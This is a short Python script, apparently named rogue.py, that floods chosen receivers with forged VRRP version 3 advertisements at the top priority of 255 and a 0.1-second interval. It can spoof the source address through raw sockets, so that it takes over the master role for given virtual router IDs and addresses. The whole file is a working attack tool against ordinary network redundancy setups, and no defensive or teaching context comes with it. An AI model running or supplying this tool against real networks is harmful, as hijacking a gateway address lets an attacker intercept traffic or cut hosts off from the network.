"""Says all the time that it is the VRRP master of the highest priority.

usage: python3 rogue.py SECONDS VRIDS ADDRESSES RECEIVERS [SOURCE TTL]

With SOURCE in somebody else's name, in packets that have TTL hops left."""

import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def advert(vrid: int, address: str, sender: str, receiver: str) -> bytes:
    """An advert of VRRP version 3 with priority 255 and an interval of 0.1 s."""
    body = [0x31, vrid, 255, 1, 10]
    whole = struct.pack("!BBBBHH4s", *body, 0, socket.inet_aton(address))
    pseudo = struct.pack("!4s4sBBH", socket.inet_aton(sender), socket.inet_aton(receiver), 0, 112, len(whole))
    return struct.pack("!BBBBHH4s", *body, checksum(pseudo + whole), socket.inet_aton(address))


def head(source: str, ttl: int, receiver: str) -> bytes:
    """An IP header; the kernel adds length and checksum."""
    return struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, ttl, 112, 0, socket.inet_aton(source), socket.inet_aton(receiver)
    )


def main(seconds: str, vrids: str, addresses: str, receivers: str, source: str = "", ttl: str = "255") -> None:
    stranger = socket.socket(socket.AF_INET, socket.SOCK_RAW, 112)
    stranger.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, bool(source))
    stranger.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
    stranger.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for receiver in receivers.split():
            stranger.connect((receiver, 0))
            sender = source or stranger.getsockname()[0]
            begin = head(source, int(ttl), receiver) if source else b""
            for vrid, address in zip(vrids.split(), addresses.split()):
                stranger.send(begin + advert(int(vrid), address, sender, receiver))
        time.sleep(0.01)


if __name__ == "__main__":
    main(*sys.argv[1:])
